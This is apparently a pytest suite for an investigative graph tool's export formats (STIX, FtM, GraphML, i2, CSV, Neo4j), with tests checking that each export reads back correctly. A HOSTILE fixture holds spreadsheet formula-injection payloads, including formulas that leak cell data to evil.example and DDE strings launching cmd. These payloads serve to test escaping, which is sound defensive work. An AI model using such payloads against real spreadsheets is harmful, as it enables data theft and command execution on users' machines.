"""Each export format read back by its real reader or validator, on both stores' fixture world."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import igraph
import networkx as nx
import pytest
import stix2
from followthemoney import ValueEntity
from stix2validator import ValidationOptions, validate_string

from compoundgraph.exports import build_view, export_bytes, render
from compoundgraph.exports.selection import ExportView
from compoundgraph.models import Entity, Source
from compoundgraph.store import GraphStore
from tests.support.world import WORLD


@pytest.fixture(params=["internal", "partner"])
def view(request: pytest.FixtureRequest, world: GraphStore) -> ExportView:
    return build_view(world, request.param)


def _one(files: dict[str, bytes]) -> bytes:
    assert len(files) == 1
    return next(iter(files.values()))


def test_ftm_every_entity_parses_and_every_reference_resolves(view: ExportView) -> None:
    data = _one(render(view, "ftm"))
    entities: dict[str, ValueEntity] = {}
    for line in data.splitlines():
        raw = json.loads(line)
        proxy = ValueEntity.from_dict(raw, cleaned=False)  # re-cleans every value
        assert proxy.id and proxy.id not in entities
        assert proxy.properties == raw["properties"], f"{proxy.id}: FtM cleaning changed values"
        proxy.schema.validate(proxy.to_dict())
        for req in proxy.schema.required:
            assert proxy.get(req), f"{proxy.id} lacks required {req}"
        entities[proxy.id] = proxy
    for proxy in entities.values():
        for prop, value in proxy.itervalues():
            if prop.type.name == "entity":
                assert value in entities, f"{proxy.id}.{prop.name} -> {value} does not resolve"
                assert entities[value].schema.is_a(prop.range), f"{proxy.id}.{prop.name} range"
    schemata = {p.schema.name for p in entities.values()}
    assert {"CryptoWallet", "Payment", "Directorship", "Employment", "Article", "Documentation", "Person"} <= schemata
    payments = [p for p in entities.values() if p.schema.name == "Payment"]
    assert len(payments) == 3 and all(p.get("amount") and p.get("payer") and p.get("beneficiary") for p in payments)
    tan = next(p for p in entities.values() if p.id == "wallet-tan")
    assert tan.get("holder") == ["person-tan-weiming"]
    assert len(entities) == len(view.sources) + len(view.entities) + len(view.claims) + sum(
        1 for p in entities.values() if p.id.endswith("-holder")
    )


# The two deliberate deviations from the validator's strict mode (docs/exports.md, STIX 2.1): ids are UUIDv5
# of compoundgraph ids (103), and relationship types outside STIX's suggestions (202).
STIX_DEVIATIONS = ["uuid-check", "relationship-types"]


def test_stix_bundle_passes_the_validator(view: ExportView) -> None:
    text = _one(render(view, "stix")).decode("utf-8")
    result = validate_string(text, ValidationOptions(version="2.1"))
    assert result.is_valid, [str(e) for e in result.errors]
    assert not result.errors
    strict = validate_string(
        text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS, enforce_refs=True)
    )
    assert strict.is_valid, [str(e) for e in strict.errors]
    bundle = stix2.parse(text, allow_custom=True)
    types = {o["type"] for o in bundle.objects}
    assert {
        "identity",
        "threat-actor",
        "location",
        "infrastructure",
        "indicator",
        "relationship",
        "report",
        "extension-definition",
        "marking-definition",
        "x-compoundgraph-wallet",
        "user-account",
    } <= types
    rels = [o for o in bundle.objects if o["type"] == "relationship"]
    assert len(rels) == len(view.claims)
    transfers = [r for r in rels if r["relationship_type"] == "transferred"]
    assert len(transfers) == 3
    ext = next(iter(transfers[0]["extensions"].values()))
    assert ext["asset"] == "USDT" and ext["amount"] and ext["grade"] == "A1" and transfers[0]["confidence"] == 90
    tlp = {o["id"]: o["name"] for o in bundle.objects if o["type"] == "marking-definition"}
    used = {tlp[m] for o in bundle.objects for m in o.get("object_marking_refs", [])}
    assert "TLP:GREEN" in used
    assert ("TLP:AMBER" in used) == (view.profile == "internal")  # H2 never reaches a partner
    assert "TLP:RED" not in used


def test_graphml_reads_in_networkx_and_igraph(view: ExportView, tmp_path: Path) -> None:
    data = _one(render(view, "graphml"))
    g = nx.read_graphml(io.BytesIO(data), force_multigraph=True)
    mentioned = len(view.mentioned_sources())
    assert g.number_of_nodes() == len(view.entities) + mentioned
    assert g.number_of_edges() == len(view.claims)
    assert g.nodes["compound-golden-lotus"]["entity_type"] == "Compound"
    assert g.nodes["compound-golden-lotus"]["label"] == "Golden Lotus Park"  # what Gephi and yEd show
    assert g.nodes["compound-golden-lotus"]["p_lat"] == pytest.approx(10.63)
    edge = next(d for _, _, d in g.edges(data=True) if d["type"] == "PROTECTS")
    assert edge["label"] == "PROTECTS"
    assert edge["grade"] == "B2" and edge["valid_from"] == "2021-01-01" and edge["valid_to"] == "2024-03-01"
    path = tmp_path / "g.graphml"
    path.write_bytes(data)
    ig = igraph.Graph.Read_GraphML(str(path))
    assert ig.vcount() == g.number_of_nodes() and ig.ecount() == g.number_of_edges()
    assert "grade" in ig.es.attributes() and "label" in ig.vs.attributes()
    assert set(ig.vs["id"]) >= set(view.entities)


def test_graphml_key_ids_are_unique_and_every_data_names_a_key_of_its_scope(view: ExportView) -> None:
    root = ET.fromstring(_one(render(view, "graphml")))
    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
    keys = root.findall("g:key", ns)
    ids = [k.get("id") for k in keys]
    assert len(ids) == len(set(ids)), sorted({i for i in ids if ids.count(i) > 1})
    scope = {k.get("id"): k.get("for") for k in keys}
    names = {(k.get("for"), k.get("attr.name")) for k in keys}
    assert ("node", "label") in names and ("edge", "label") in names and ("node", "sources") in names
    for kind in ("node", "edge"):
        for element in root.iter(f"{{{ns['g']}}}{kind}"):
            for data in element.findall("g:data", ns):
                assert scope[data.get("key")] == kind, (element.get("id"), data.get("key"))


def test_gexf_has_a_timeline_and_reads_back(view: ExportView) -> None:
    data = _one(render(view, "gexf"))
    g = nx.read_gexf(io.BytesIO(data))
    assert g.number_of_edges() == len(view.claims)
    root = ET.fromstring(data)
    ns = {"g": root.tag.split("}")[0].strip("{")}
    graph = root.find("g:graph", ns)
    assert graph is not None and graph.get("mode") == "dynamic" and graph.get("timeformat") == "date"
    edges = root.findall(".//g:edge", ns)
    protects = next(e for e in edges if e.get("label") == "PROTECTS")
    assert (protects.get("start"), protects.get("end")) == ("2021-01-01", "2024-03-01")
    transfers = [e for e in edges if e.get("label") == "TRANSFERRED"]
    assert sorted(e.get("start") for e in transfers) == ["2024-02-01", "2024-02-02", "2024-02-03"]
    node = g.nodes["compound-golden-lotus"]
    assert node["label"] == "Golden Lotus Park" and node["entity_type"] == "Compound"


def test_i2_tables_have_grade_columns(view: ExportView) -> None:
    files = render(view, "i2")
    assert set(files) == {"i2_entities.csv", "i2_links.csv"}
    assert files["i2_links.csv"].startswith("\ufeff".encode())
    links = list(csv.DictReader(io.StringIO(files["i2_links.csv"].decode("utf-8-sig"))))
    ents = list(csv.DictReader(io.StringIO(files["i2_entities.csv"].decode("utf-8-sig"))))
    assert len(links) == len(view.claims)
    ids = {e["Entity ID"] for e in ents}
    assert all(link["From ID"] in ids and link["To ID"] in ids for link in links)
    colludes = [row for row in links if row["Link Type"] == "OPERATES" and row["Grade 1"] == "D"]
    assert bool(colludes) == (view.profile == "internal")  # the D5 tip-line claim is H2
    directs = next(row for row in links if row["Link Type"] == "DIRECTS")
    assert (directs["Grade 1"], directs["Grade 2"], directs["Grade 3"]) == ("B", "2", "H1")
    assert directs["UK 3x5x2"] == "1CP" and directs["Europol 4x4"] == "B2"
    transfers = sorted((row["Date"], row["Time"]) for row in links if row["Link Type"] == "TRANSFERRED")
    assert transfers == [("2024-02-01", "10:00:00"), ("2024-02-02", "09:30:00"), ("2024-02-03", "12:00:00")]
    assert all(row["Time"] == "" for row in links if row["Link Type"] != "TRANSFERRED")


def test_cytoscape_json_loads_in_networkx(view: ExportView) -> None:
    doc = json.loads(_one(render(view, "cytoscape")))
    g = nx.cytoscape_graph(doc)
    assert g.number_of_edges() == len(view.claims)
    edge = doc["elements"]["edges"][0]["data"]
    assert edge["source"] in g and edge["target"] in g and edge["claim_source"] in view.sources


def test_plain_csv_round_counts(view: ExportView) -> None:
    files = render(view, "csv")
    nodes = list(csv.DictReader(io.StringIO(files["nodes.csv"].decode())))
    edges = list(csv.DictReader(io.StringIO(files["edges.csv"].decode())))
    assert len(nodes) == len(view.entities) and len(edges) == len(view.claims)
    assert ("victim_cases.csv" in files) == (view.profile == "partner")


def test_neo4j_admin_headers_are_typed_and_consistent(view: ExportView) -> None:
    files = render(view, "neo4j-admin")
    node_ids: set[str] = set()
    for name, data in files.items():
        if not name.endswith(".csv"):
            continue
        rows = list(csv.reader(io.StringIO(data.decode())))
        header, body = rows[0], rows[1:]
        assert all(len(r) == len(header) for r in body), name
        if name.startswith("nodes_"):
            assert header[:2] == ["id:ID", ":LABEL"]
            node_ids |= {r[0] for r in body}
        else:
            assert header[:3] == [":START_ID", ":END_ID", ":TYPE"]
    compounds = list(csv.reader(io.StringIO(files["nodes_Compound.csv"].decode())))
    assert "lat:double" in compounds[0] and "aliases:string[]" in compounds[0] and "est_workers:long" in compounds[0]
    for name, data in files.items():
        if name.startswith("rels_"):
            for r in list(csv.reader(io.StringIO(data.decode())))[1:]:
                assert r[0] in node_ids and r[1] in node_ids
    rels = list(csv.reader(io.StringIO(files["rels_TRANSFERRED.csv"].decode())))
    assert "grade_r:long" in rels[0] and "log_index:long" in rels[0]
    assert b'neo4j-admin}" database import full "$DATABASE"' in files["import.sh"]


def test_export_bytes_for_the_api(world: GraphStore) -> None:
    data, media, name = export_bytes(world, "stix", profile="partner", query={"ego": "compound-jade-river", "hops": 1})
    assert media.startswith("application/stix+json") and name.endswith(".json")
    assert json.loads(data)["type"] == "bundle"
    data, media, name = export_bytes(world, "i2", ids=["person-tan-weiming", "wallet-tan"])
    assert media == "application/zip" and name.endswith(".zip")
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        links = z.read("i2_links.csv").decode("utf-8-sig")
    # header, the HOLDS claim between the two ids, and Tan's MENTIONED_IN claim (its source comes along)
    assert "HOLDS" in links and "MENTIONED_IN" in links and links.count("\n") == 3


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quote": "-2+3+cmd|' /C calc'!A0",
    "title": '\t=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "handle": "+1 555 0100",
    "carriage": "\r=1+1",
}


def _hostile_view(world: GraphStore, profile: str) -> ExportView:
    view = build_view(world, profile)
    lotus = view.entities["compound-golden-lotus"]
    lotus.name = HOSTILE["name"]
    lotus.aliases = [HOSTILE["alias"], *lotus.aliases]
    lotus.properties = {**lotus.properties, "lon": -3.5, "status": HOSTILE["carriage"]}
    view.claims[0].quote = HOSTILE["quote"]
    source = view.sources[view.claims[0].source]
    source.title = HOSTILE["title"]
    source.publisher = HOSTILE["handle"]
    return view


@pytest.mark.parametrize("fmt", ["csv", "i2"])
def test_spreadsheet_cells_never_start_a_formula(world: GraphStore, fmt: str) -> None:
    view = _hostile_view(world, "internal")
    files = render(view, fmt)
    seen: list[str] = []
    for name, data in files.items():
        assert data.startswith("\ufeff".encode()), f"{name} lacks the UTF-8 BOM Excel needs"
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            for cell in row:
                seen.append(cell)
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only a number may start with a sign (a negative longitude)
    for value in (HOSTILE["name"], HOSTILE["quote"], HOSTILE["title"]):
        assert "'" + value in seen, f"{value!r} was not written as text"
    if fmt == "i2":
        assert "-3.5" in seen  # a number stays a number
    text = b"".join(files.values()).decode("utf-8-sig")
    assert "ဂျိတ်မြစ်" in text and "金莲园区" in text  # Burmese and Chinese names travel as UTF-8


def test_json_formats_carry_values_unchanged(world: GraphStore) -> None:
    view = _hostile_view(world, "internal")
    doc = json.loads(_one(render(view, "cytoscape")))
    lotus = next(n["data"] for n in doc["elements"]["nodes"] if n["data"]["id"] == "compound-golden-lotus")
    assert lotus["name"] == HOSTILE["name"]
    records = [json.loads(line) for line in _one(render(view, "jsonl")).splitlines()]
    assert any(r.get("name") == HOSTILE["name"] for r in records)
    assert any(r.get("quote") == HOSTILE["quote"] for r in records)


def test_stix_keeps_claim_dates_properties_and_full_transfer_times(world: GraphStore) -> None:
    view = build_view(world, "internal")
    transfer = next(c for c in view.claims if c.type == "TRANSFERRED")
    transfer.valid_from = transfer.properties["timestamp"][:10]  # what a chain ingest records as validity
    transfer.first_seen, transfer.last_seen = "2024-02-05", "2024-03-01"
    transfer.properties = {**transfer.properties, "chain": "tron", "confirmed": True}
    source = view.sources[transfer.source]
    source.sha256 = "ab" * 32
    tip = next(s for s in view.sources.values() if not s.url)
    tip.url = "https://example.org/tip"  # a URL with no document hash
    text = _one(render(view, "stix")).decode("utf-8")
    strict = validate_string(text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS))
    assert strict.is_valid, [str(e) for e in strict.errors]
    objects = {o["id"]: o for o in json.loads(text)["objects"]}
    rel = next(
        o
        for o in objects.values()
        if o["type"] == "relationship" and next(iter(o["extensions"].values())).get("compoundgraph_id") == transfer.id
    )
    ext = next(iter(rel["extensions"].values()))
    assert stix2.utils.parse_into_datetime(rel["start_time"]) == stix2.utils.parse_into_datetime(
        transfer.properties["timestamp"]
    )  # to the second, not midnight
    assert (ext["first_seen"], ext["last_seen"]) == ("2024-02-05", "2024-03-01")
    assert ext["properties"] == {"chain": "tron", "confirmed": "true"}
    reports = [o for o in objects.values() if o["type"] == "report" and o.get("external_references")]
    pinned = next(o for o in reports if o["external_references"][0]["external_id"] == source.id)
    assert pinned["external_references"][0]["hashes"] == {"SHA-256": "ab" * 32}
    unpinned = next(o for o in reports if o["external_references"][0]["external_id"] == tip.id)
    assert "url" not in unpinned["external_references"][0]
    assert next(iter(unpinned["extensions"].values()))["url"] == "https://example.org/tip"
    accounts = [o for o in objects.values() if o["type"] == "user-account"]
    assert all(o.get("account_type") in (None, "facebook") for o in accounts)
    assert {next(iter(o["extensions"].values()))["platform"] for o in accounts} >= {"Telegram", "phone"}


def test_ftm_payments_keep_transfer_times_to_the_second(world: GraphStore) -> None:
    view = build_view(world, "partner")
    transfers = [c for c in view.claims if c.type == "TRANSFERRED"]
    transfers[0].properties = {**transfers[0].properties, "timestamp": "2024-02-01T10:00:07Z"}
    transfers[1].properties = {**transfers[1].properties, "timestamp": "2024-02-02T16:30:59+07:00"}
    payments = {}
    for line in _one(render(view, "ftm")).splitlines():
        proxy = ValueEntity.from_dict(json.loads(line), cleaned=False)  # FtM's own cleaning, as Aleph does
        if proxy.schema.name == "Payment":
            payments[proxy.id] = proxy.get("date")
    assert payments[transfers[0].id] == ["2024-02-01T10:00:07"]
    assert payments[transfers[1].id] == ["2024-02-02T09:30:59"]  # in UTC
    assert all(len(d[0]) == len("2024-02-01T10:00:07") for d in payments.values())


def test_ftm_cli_validates_the_export_unchanged(view: ExportView, tmp_path: Path) -> None:
    """followthemoney's own ``ftm validate`` (re-parse and clean every entity) gives the file back as it was."""
    import subprocess
    import sys

    src, out = tmp_path / "ftm.jsonl", tmp_path / "valid.jsonl"
    src.write_bytes(_one(render(view, "ftm")))
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "ftm"), "validate", "-i", str(src), "-o", str(out)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0 and not proc.stderr.strip(), proc.stderr[-2000:]
    before = {e["id"]: (e["schema"], e["properties"]) for e in map(json.loads, src.read_text().splitlines())}
    after = {e["id"]: (e["schema"], e["properties"]) for e in map(json.loads, out.read_text().splitlines())}
    assert after == before


def test_screening_csv_follows_the_same_spreadsheet_rule(tmp_path: Path) -> None:
    """The screening CSV echoes row labels and stored names (handles such as @recruit02): same rule."""
    from compoundgraph.loader import load_jsonl
    from compoundgraph.models import Entity
    from compoundgraph.screening import from_records, screen
    from compoundgraph.screening.report import as_csv
    from compoundgraph.store import EmbeddedStore

    store = EmbeddedStore(tmp_path / "s.sqlite")
    load_jsonl(store, [WORLD])
    store.upsert([Entity(id="person-at-kyaw", label="Person", name="@Kyaw Lin Thu", sources=["src-mekong-watch-2024"])])
    text = as_csv(screen(store, from_records([("-sheet1!A1", {"name": "Kyaw Lin Thu"})])))
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'-sheet1!A1" in cells and "'@Kyaw Lin Thu" in cells


def test_neo4j_admin_labels_proposals_as_the_store_does() -> None:
    """A proposal pending or rejected carries ``Proposed`` (the label the Neo4j store's reads test); an
    accepted one does not."""
    report = Source(title="Report", kind="report")
    made = {
        status: Entity(
            label="Compound",
            name=f"Export {status} Park",
            properties={"status": status, "candidate_rule": "park", "proposed_in": report.id},
            sources=[report.id],
        )
        for status in ("pending", "accepted", "rejected")
    }
    view = ExportView(sources={report.id: report}, entities={e.id: e for e in made.values()}, claims=[], query={})
    rows = list(csv.reader(io.StringIO(render(view, "neo4j-admin")["nodes_Compound.csv"].decode())))[1:]
    assert {r[0]: r[1] for r in rows} == {
        made["pending"].id: "Node;Entity;Compound;Proposed",
        made["accepted"].id: "Node;Entity;Compound",
        made["rejected"].id: "Node;Entity;Compound;Proposed",
    }
